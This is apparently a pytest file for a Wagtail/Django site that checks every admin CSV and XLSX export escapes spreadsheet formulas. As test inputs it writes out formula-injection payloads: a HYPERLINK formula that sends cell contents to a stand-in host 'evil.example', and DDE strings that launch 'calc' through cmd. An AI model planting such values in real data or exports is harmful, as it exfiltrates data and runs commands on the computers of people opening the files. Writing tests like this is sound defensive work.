"""No CSV or XLSX export of the admin hands a spreadsheet a formula (issue 16, finding 12).

Text that readers and editors wrote (a report's message, a subscriber's address, a page title, an
author's name, a search term) is put where every export can reach it; then every export the admin
offers is downloaded through its real URL, as CSV and as XLSX: the listings and reports found by walking
the URLconf (so a new export is covered without touching this test) and the readers' form submissions.
A cell starting with = + - @, a tab or a carriage return carries a leading single quote (OWASP).
"""

import csv
import io
import re

import pytest
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.search_promotions.models import Query

from home.models import Subscriber
from portal.spreadsheets import FORMULA_STARTS
from tests import factories
from tests.home.test_report_page import report_page

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
PLUS, TAB, RETURN = "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"  # more titles
MESSAGE = "=cmd|' /C calc'!A0"
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
EMAIL = "=1+1@example.org"  # a valid address: = is allowed before the @
TERM = "-2+3+cmd|' /c calc'!a0"  # search terms are stored lower-case
PAYLOADS = (TITLE, PLUS, TAB, RETURN, MESSAGE, NAME, EMAIL, TERM)
NUMBER = re.compile(r"-\d+(\.\d+)?")


def export_views() -> list[str]:
    """The URL names of every admin view that can answer ?export=csv|xlsx (not their `_results` twins,
    which answer the same)."""
    found = set()

    def walk(patterns, namespace=None):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = pattern.namespace and ":".join(filter(None, (namespace, pattern.namespace)))
                walk(pattern.url_patterns, inner or namespace)
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            exports = view_class and issubclass(view_class, SpreadsheetExportMixin)
            if exports and pattern.name and not pattern.name.endswith("_results"):
                found.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)

    walk(get_resolver().url_patterns)
    return sorted(found)


@pytest.fixture
def tainted(site, sections, admin_user, client):
    """The payloads wherever readers and editors can put text that an export shows."""
    for title in (TITLE, PLUS, TAB, RETURN):
        article = factories.make_article(sections["en"], title)
        type(article).objects.filter(pk=article.pk).update(locked=True, locked_by=admin_user)
    form = report_page(site["en"], "en")
    response = client.post(form.url, {"message": MESSAGE, "name": NAME, "website": ""})
    assert response.status_code == 200
    Subscriber.objects.create(email=EMAIL, language="en")
    Query.get(TERM).add_hit()
    return {"form": form}


def cells_of(response, export_format: str) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # never stored as a formula
            if isinstance(cell.value, str):
                values.append(cell.value)
    return values


def test_every_export_escapes_formulas(admin_client, tainted):
    urls = {name: reverse(name) for name in export_views()}
    urls["form submissions"] = reverse("wagtailforms:list_submissions", args=[tainted["form"].pk])
    assert {"wagtailadmin_reports:site_history", "wagtailsnippets_home_subscriber:list"} <= set(urls)
    seen = set()
    for name, url in urls.items():
        for export_format in ("csv", "xlsx"):
            response = admin_client.get(url, {"export": export_format})
            assert response.status_code == 200, (name, export_format)
            cells = cells_of(response, export_format)
            dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
            assert not dangerous, (name, export_format, dangerous)
            seen.update((name, export_format, cell) for cell in cells)

    def escaped_in(name):
        return {
            payload
            for payload in PAYLOADS
            # XML has no carriage return of its own: openpyxl reads one back as a line feed.
            if (name, "csv", "'" + payload) in seen
            and (name, "xlsx", "'" + payload.replace("\r", "\n")) in seen
        }

    assert escaped_in("form submissions") == {MESSAGE, NAME}
    assert EMAIL in escaped_in("wagtailsnippets_home_subscriber:list")
    assert {TITLE, PLUS, TAB, RETURN} <= escaped_in("wagtailadmin_reports:locked_pages")
    assert {TITLE, PLUS, TAB, RETURN} <= escaped_in("wagtailadmin_reports:site_history")
    assert TERM in escaped_in("wagtailsearchpromotions:search_terms")
    everywhere = {cell for _name, _format, cell in seen}
    assert not {"'" + payload for payload in PAYLOADS} - everywhere


def test_plain_text_and_numbers_are_left_alone(admin_client, site):
    form = report_page(site["en"], "en")
    admin_client.post(form.url, {"message": "Tram 4 is late", "name": "Anna", "website": ""})
    url = reverse("wagtailforms:list_submissions", args=[form.pk])
    cells = cells_of(admin_client.get(url, {"export": "csv"}), "csv")
    assert "Tram 4 is late" in cells and "Anna" in cells
